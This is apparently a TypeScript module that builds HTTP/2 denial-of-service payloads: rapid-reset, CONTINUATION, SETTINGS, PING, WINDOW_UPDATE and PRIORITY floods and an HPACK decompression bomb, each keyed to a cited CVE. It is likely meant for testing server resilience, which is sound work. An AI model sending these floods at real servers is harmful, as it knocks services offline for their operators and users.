import { Buffer } from 'node:buffer'
import {
  END_HEADERS,
  END_STREAM,
  ACK,
  FRAME,
  fieldBlock,
  frame,
  indexedField,
  requestBlock,
  uint32,
} from './http2-frames.ts'

/** A client that sends more of something than anybody needs. */
export interface Flood {
  /** What it sends once, behind the preface. */
  readonly opening?: Buffer
  /** What it sends again and again, told how often it has. */
  readonly octets: (round: number) => Buffer
}

const FRAMES_AT_ONCE = 500
const STREAMS_AT_ONCE = 100

const GET = requestBlock('GET', '/')
const POST = requestBlock('POST', '/upload')
const UNREAD = frame(FRAME.headers, END_HEADERS, 1, requestBlock('POST', '/never'))
const UPLOAD = frame(FRAME.headers, END_HEADERS, 1, POST)
const CANCEL = uint32(8)
/** SETTINGS_INITIAL_WINDOW_SIZE and SETTINGS_MAX_CONCURRENT_STREAMS. */
const TWO_SETTINGS = Buffer.from([0, 4, 0, 0, 0xff, 0xff, 0, 3, 0, 0, 0, 100])
const BACK_REFERENCES = 90
/** The newest entry of the dynamic table: one octet that stands for 3 000. */
const NEWEST = 0x80 | 62
const BOMB = Buffer.concat([
  GET,
  indexedField('x-bomb', 'x'.repeat(3000)),
  Buffer.alloc(BACK_REFERENCES, NEWEST),
])

/** All of them by name (RFC 9113 §10.5, CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27316, CVE-2025-8671). */
export const FLOODS: ReadonlyMap<string, Flood> = new Map<string, Flood>([
  [
    'rapid resets',
    { octets: (round) => onStreams(round, (id) => [get(id), frame(FRAME.reset, 0, id, CANCEL)]) },
  ],
  [
    'resets that the server is made to send',
    {
      octets: (round) =>
        onStreams(round, (id) => [
          frame(FRAME.headers, END_HEADERS, id, POST),
          frame(FRAME.windowUpdate, 0, id, uint32(0)),
        ]),
    },
  ],
  [
    'CONTINUATION',
    again(frame(FRAME.continuation, 0, 1, fieldBlock(['x-a', 'b'])), frame(FRAME.headers, 0, 1, GET)),
  ],
  ['empty CONTINUATION', again(frame(FRAME.continuation, 0, 1), frame(FRAME.headers, 0, 1, GET))],
  ['SETTINGS', again(frame(FRAME.settings, 0, 0, TWO_SETTINGS))],
  ['PING', again(frame(FRAME.ping, 0, 0, Buffer.alloc(8)))],
  [
    'acknowledgements',
    again(Buffer.concat([frame(FRAME.settings, ACK, 0), frame(FRAME.ping, ACK, 0, Buffer.alloc(8))])),
  ],
  ['empty DATA', again(frame(FRAME.data, 0, 1), UPLOAD)],
  ['DATA of one octet', again(frame(FRAME.data, 0, 1, Buffer.from('x')), UNREAD)],
  ['WINDOW_UPDATE', again(frame(FRAME.windowUpdate, 0, 1, uint32(1)), UNREAD)],
  ['PRIORITY', again(frame(FRAME.priority, 0, 1, Buffer.from([0, 0, 0, 0, 15])))],
  ['unknown frames', again(frame(0xfe, 0, 0))],
  ['HPACK bombs', { octets: (round) => onStreams(round, (id) => [get(id, BOMB)]) }],
])

function again(piece: Buffer, opening?: Buffer): Flood {
  const octets = Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, () => piece))
  return opening === undefined ? { octets: () => octets } : { opening, octets: () => octets }
}

/** The same on stream after stream. */
function onStreams(round: number, make: (id: number) => readonly Buffer[]): Buffer {
  const ids = Array.from({ length: STREAMS_AT_ONCE }, (_, i) => (round * STREAMS_AT_ONCE + i) * 2 + 1)
  return Buffer.concat(ids.flatMap(make))
}

function get(id: number, block: Buffer = GET): Buffer {
  return frame(FRAME.headers, END_HEADERS | END_STREAM, id, block)
}
